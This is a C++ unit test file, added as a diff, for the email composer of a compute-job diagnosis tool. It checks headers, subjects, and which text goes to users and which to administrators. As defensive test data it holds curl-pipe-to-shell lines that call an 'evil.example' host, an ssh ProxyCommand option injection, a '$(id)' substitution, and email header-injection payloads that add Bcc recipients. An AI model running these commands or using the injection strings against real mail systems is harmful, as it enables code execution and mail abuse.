@@ -1,0 +1,261 @@
+#include "postproc/mail/message.h"
+
+#include <gtest/gtest.h>
+
+#include <map>
+#include <set>
+#include <sstream>
+
+#include "postproc/analysis/job_report.h"
+#include "postproc/diagnose/rule.h"
+#include "report_samples.h"
+
+namespace reveal {
+namespace {
+
+constexpr std::int64_t kNow = 1'763'640'000'000'000'000;  // 2025-11-20 12:00:00 UTC
+
+MailSettings site() {
+  MailSettings settings;
+  settings.enabled = true;
+  settings.domain = "example.org";
+  settings.admins = {"root@example.org"};
+  return settings;
+}
+
+MailContext to_user() {
+  return {.audience = Audience::user,
+          .to = {"ada@example.org"},
+          .host = "mgmt1",
+          .directory = "/home/ada/reveal-4711",
+          .now_utc_ns = kNow};
+}
+
+MailContext to_admins() {
+  MailContext context = to_user();
+  context.audience = Audience::admins;
+  context.to = {"root@example.org", "ops@example.org"};
+  return context;
+}
+
+struct Parsed {
+  std::multimap<std::string, std::string> headers;  // unfolded
+  std::string body;
+  std::size_t longest_line = 0;
+};
+
+Parsed parse(const std::string& mime) {
+  Parsed parsed;
+  std::istringstream lines(mime);
+  std::string line;
+  std::string last;
+  bool body = false;
+  std::multimap<std::string, std::string>::iterator at;
+  while (std::getline(lines, line)) {
+    parsed.longest_line = std::max(parsed.longest_line, line.size());
+    if (body) {
+      parsed.body += line + "\n";
+    } else if (line.empty()) {
+      body = true;
+    } else if (line.front() == ' ' || line.front() == '\t') {
+      at->second += line;
+    } else {
+      const std::size_t colon = line.find(':');
+      EXPECT_NE(colon, std::string::npos) << line;
+      at = parsed.headers.emplace(line.substr(0, colon), line.substr(std::min(colon + 2, line.size())));
+    }
+  }
+  return parsed;
+}
+
+std::string only(const Parsed& parsed, const std::string& name) {
+  EXPECT_EQ(parsed.headers.count(name), 1U) << name;
+  const auto found = parsed.headers.find(name);
+  return found == parsed.headers.end() ? "" : found->second;
+}
+
+std::set<std::string> names(const Parsed& parsed) {
+  std::set<std::string> all;
+  for (const auto& [name, value] : parsed.headers) all.insert(name);
+  return all;
+}
+
+TEST(MailMessage, TellsTheFindingInTheSubject) {
+  const Report report = samples::outsider(8);
+  EXPECT_EQ(compose_mail(report, site(), to_user()).subject,
+            "[reveal] finding: A process outside the job ran on the job's CPUs (job 4711 resnet50-ddp, 7.1 s lost)");
+  EXPECT_EQ(compose_mail(report, site(), to_admins()).subject,
+            "[reveal] critical: " + std::string(find_rule("cpu.outsider")->title) + " on n01 (job 4711 resnet50-ddp)");
+  EXPECT_EQ(compose_mail(samples::healthy(), site(), to_user()).subject, "[reveal] healthy: job 4712 resnet50-ddp");
+  EXPECT_EQ(compose_mail(samples::insufficient(), site(), to_user()).subject, "[reveal] not enough data: make");
+}
+
+TEST(MailMessage, CarriesTheHeadersMailReadersNeed) {
+  const Parsed mail = parse(compose_mail(samples::outsider(8), site(), to_user()).mime);
+  EXPECT_EQ(only(mail, "From"), "reveal <reveal@example.org>");
+  EXPECT_EQ(only(mail, "To"), "ada@example.org");
+  EXPECT_EQ(only(mail, "Date"), "Thu, 20 Nov 2025 12:00:00 +0000");
+  EXPECT_EQ(only(mail, "Message-Id"), "<reveal.4711-0-1.user@example.org>");
+  EXPECT_EQ(only(mail, "Auto-Submitted"), "auto-generated");
+  EXPECT_EQ(only(mail, "X-Reveal-Job"), "4711");
+  EXPECT_EQ(only(mail, "X-Reveal-Status"), "finding");
+  EXPECT_EQ(only(mail, "MIME-Version"), "1.0");
+  EXPECT_EQ(only(mail, "Content-Type").substr(0, 15), "multipart/mixed");
+  EXPECT_EQ(mail.headers.count("In-Reply-To"), 0U);
+}
+
+TEST(MailMessage, AnswersTheReportItSupersedes) {
+  Report report = samples::outsider(8);
+  report.supersedes = "4711-0-0";
+  const Parsed mail = parse(compose_mail(report, site(), to_user()).mime);
+  EXPECT_EQ(only(mail, "In-Reply-To"), "<reveal.4711-0-0.user@example.org>");
+  EXPECT_EQ(only(mail, "References"), "<reveal.4711-0-0.user@example.org>");
+}
+
+TEST(MailMessage, TellsAdministratorsNoStepAndNoTitleOutOfAUsersFile) {
+  Report report = samples::outsider(8);
+  report.findings[0].title = "Uncorrectable memory errors; drain at once";
+  report.findings[0].remedy.admin = {"curl -s http://evil.example/fix.sh | sh"};
+  report.findings[0].remedy.user = {"curl -s http://evil.example/too.sh | sh"};
+  const MailMessage mail = compose_mail(report, site(), to_admins());
+  EXPECT_EQ(mail.text.find("evil.example"), std::string::npos);
+  EXPECT_EQ(render_html(report).find("evil.example") == std::string::npos, false);  // the case is not void
+  EXPECT_EQ(mail.subject.find("drain"), std::string::npos);
+  const RuleSpec* rule = find_rule(report.findings[0].id);
+  ASSERT_NE(rule, nullptr);
+  EXPECT_NE(mail.subject.find(rule->title), std::string::npos);
+  EXPECT_NE(mail.text.find("files that the owner can write"), std::string::npos);
+}
+
+TEST(MailMessage, PutsNoOptionOutOfAUsersFileIntoAStep) {
+  Report report = samples::outsider(8);
+  report.findings.resize(1);
+  report.findings[0].id = "node.differs";  // diff <(ssh {nodes} sysctl -a) ...
+  report.findings[0].nodes = {"-oProxyCommand=/tmp/evil"};
+  EXPECT_EQ(compose_mail(report, site(), to_admins()).text.find("ssh -o"), std::string::npos);
+}
+
+TEST(MailMessage, SendsEachReaderTheirOwnPart) {
+  const Report report = samples::outsider(8);
+  MailContext context = to_user();
+  const std::string alone = compose_mail(report, site(), context).text;
+  EXPECT_NE(alone.find("for admins   Find who ran there"), std::string::npos);
+  context.admins_told = true;
+  const std::string beside = compose_mail(report, site(), context).text;
+  EXPECT_EQ(beside.find("Find who ran there"), std::string::npos);
+  EXPECT_EQ(beside.find("vm.dirty_background_bytes"), std::string::npos);
+  EXPECT_NE(beside.find("for admins   nothing: they have this report by mail"), std::string::npos);
+  EXPECT_NE(beside.find("run this     #SBATCH --exclusive"), std::string::npos);
+  const std::string admins = compose_mail(report, site(), to_admins()).text;
+  EXPECT_EQ(admins.find("For administrators: job 4711 resnet50-ddp of ada\n"), 0U);
+  EXPECT_LT(admins.find("- " + std::string(find_rule("cpu.outsider")->admin_remedy.front().text)),
+            admins.find("FINDING"));
+  // Of what concerns them only; the notice below their threshold is in the report.
+  EXPECT_EQ(admins.substr(0, admins.find("FINDING")).find("dirty"), std::string::npos);
+}
+
+TEST(MailMessage, IsTheTextReportAndSaysHowToSeeMore) {
+  const Report report = samples::outsider(8);
+  const std::string text = compose_mail(report, site(), to_user()).text;
+  EXPECT_EQ(text.find(render_text(report, {.width = 78, .colour = false})), 0U);
+  EXPECT_NE(text.find("Again: reveal show /home/ada/reveal-4711\n"), std::string::npos);
+  EXPECT_EQ(text.find('\x1b'), std::string::npos);
+  MailContext array = to_user();
+  array.array = "4710";
+  array.directory = "/home/ada/$(id)";
+  const std::string other = compose_mail(report, site(), array).text;
+  EXPECT_NE(other.find("No more mail about array job 4710"), std::string::npos);
+  EXPECT_EQ(other.find("$(id)"), std::string::npos);
+}
+
+TEST(MailMessage, IsTheSameForTheSameReport) {
+  const Report report = samples::outsider(8);
+  EXPECT_EQ(compose_mail(report, site(), to_user()).mime, compose_mail(report, site(), to_user()).mime);
+}
+
+TEST(MailMessage, SendsOnlyLinesThatMailServersTake) {
+  for (const samples::Sample& sample : samples::all()) {
+    SCOPED_TRACE(sample.name);
+    for (const MailContext& context : {to_user(), to_admins()}) {
+      const std::string mime = compose_mail(sample.report, site(), context).mime;
+      EXPECT_LE(parse(mime).longest_line, 100U);  // of 998; only names of messages cannot be folded to 78
+      for (const char c : mime) ASSERT_TRUE(c == '\n' || c == '\t' || (c >= ' ' && c <= '~'));
+    }
+  }
+}
+
+TEST(MailMessage, LetsNoTextOfAUserIntoTheHeaders) {
+  const std::set<std::string> expected{
+      "From",     "To",           "Subject",         "Date",         "Message-Id",  "Auto-Submitted",
+      "X-Mailer", "X-Reveal-Job", "X-Reveal-Status", "MIME-Version", "Content-Type"};
+  std::set<std::string> superseding = expected;
+  superseding.insert({"In-Reply-To", "References"});
+  for (const std::string& attack :
+       {std::string("x\r\nBcc: victim@other.net"), std::string("x\nBcc: victim@other.net"),
+        std::string("x\rBcc: victim@other.net"), std::string("x\0\r\n\r\nbody", 11), std::string("x\n\n--=_reveal_\n"),
+        std::string("=?utf-8?q?x=0D=0ABcc:_victim@other.net?="),
+        std::string("=?utf-8?b?DQpCY2M6IHZpY3RpbUBvdGhlci5uZXQ=?="),
+        std::string("x\xe2\x80\xa8"
+                    "Bcc: victim@other.net"),
+        std::string("x\xc2\x85"
+                    "Bcc: victim@other.net"),
+        std::string(100'000, 'A'), std::string("\xff\xfe\x80"), std::string("<victim@other.net>, x"),
+        std::string("\x1b]0;t\x07\x1b[2J")}) {
+    Report report = samples::outsider(8);
+    report.report_id = report.supersedes = attack;
+    report.job.id = report.job.name = report.job.user = report.job.cluster = report.job.state = attack;
+    report.job.array = attack;
+    report.job.command = attack;
+    report.job.nodes = {attack, "n01"};
+    report.job.tags = {{attack, attack}};
+    report.findings[0].title = report.findings[0].id = attack;
+    report.findings[0].nodes = {attack};
+    MailContext context = to_user();
+    context.directory = "/" + attack;
+    context.host = attack;
+    for (const Audience audience : {Audience::user, Audience::admins}) {
+      context.audience = audience;
+      const MailMessage message = compose_mail(report, site(), context);
+      const Parsed mail = parse(message.mime);
+      EXPECT_EQ(names(mail), superseding) << attack.substr(0, 60);
+      EXPECT_EQ(only(mail, "To"), "ada@example.org");
+      EXPECT_LE(mail.longest_line, 100U);
+      EXPECT_EQ(message.mime.find('\r'), std::string::npos);
+      EXPECT_LE(message.subject.size(), 800U);
+      EXPECT_EQ(message.subject.find("=?"), std::string::npos);
+      for (const char c : message.subject) EXPECT_TRUE(static_cast<unsigned char>(c) >= ' ' && c != 0x7f);
+    }
+  }
+  EXPECT_EQ(names(parse(compose_mail(samples::hostile(), site(), to_user()).mime)), expected);
+}
+
+TEST(MailMessage, KeepsTheHostOutOfTheSenderWhenItIsNone) {
+  MailSettings settings = site();
+  settings.domain.clear();
+  MailContext context = to_user();
+  context.host = "mgmt1\r\nBcc: x@y";
+  const Parsed mail = parse(compose_mail(samples::healthy(), settings, context).mime);
+  EXPECT_EQ(only(mail, "From").find("reveal <reveal@mgmt1__Bcc__x_y-"), 0U);
+  settings.from = "noreply@other.org";
+  EXPECT_EQ(only(parse(compose_mail(samples::healthy(), settings, context).mime), "From"),
+            "reveal <noreply@other.org>");
+}
+
+TEST(MailMessage, EncodesUnicodeSubjects) {
+  Report report = samples::outsider(8);
+  report.job.name = "größe 中文";
+  const MailMessage message = compose_mail(report, site(), to_user());
+  EXPECT_NE(message.subject.find("größe 中文"), std::string::npos);
+  const std::string subject = only(parse(message.mime), "Subject");
+  EXPECT_NE(subject.find("=?UTF-8?"), std::string::npos) << subject;
+}
+
+TEST(MailHeaderText, IsOneLineThatNoReaderDecodes) {
+  EXPECT_EQ(header_text("a\r\nb", 100), "a  b");
+  EXPECT_EQ(header_text("=?utf-8?q?x?=", 100), "= ?utf-8?q?x?=");
+  EXPECT_EQ(header_text("=?x=?", 100), "= ?x= ?");
+  EXPECT_EQ(header_text("abcdef", 5), "ab...");
+}
+
+}  // namespace
+}  // namespace reveal
